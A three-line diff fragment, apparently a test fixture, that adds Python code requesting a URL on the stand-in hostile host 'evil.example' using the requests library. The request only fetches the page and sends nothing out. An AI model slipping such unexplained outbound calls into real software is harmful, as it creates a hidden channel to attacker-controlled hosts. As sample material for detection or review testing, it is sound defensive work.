@@ -1,0 +1,3 @@
+URL = 'http://evil.example/x'
+import requests
+requests.get(URL)
